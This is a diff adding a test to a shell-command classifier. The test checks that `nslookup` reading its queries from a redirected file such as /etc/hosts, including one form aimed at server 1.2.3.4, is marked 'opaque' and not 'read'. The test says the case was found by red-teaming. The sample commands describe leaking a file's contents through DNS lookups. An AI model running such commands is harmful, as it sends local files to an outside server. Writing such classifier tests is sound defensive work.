@@ -326,3 +326,9 @@ test('`git reflog expire`/`delete` change the repository: not read (found by red
   assert.equal(inspectCommand('git reflog delete x').class, 'write');
   for (const c of ['git reflog', 'git reflog show', 'git reflog -n 5 main', 'git reflog --all']) assert.equal(inspectCommand(c).class, 'read', c);
 });
+
+test('`nslookup` without a name reads queries from its input: a file\'s lines would go to a name server (found by red-teaming)', () => {
+  assert.equal(inspectCommand('nslookup < /etc/hosts').class, 'opaque');
+  assert.equal(inspectCommand('nslookup - 1.2.3.4 < /etc/hosts').class, 'opaque');
+  assert.equal(inspectCommand('nslookup example.com').class, 'read');
+});
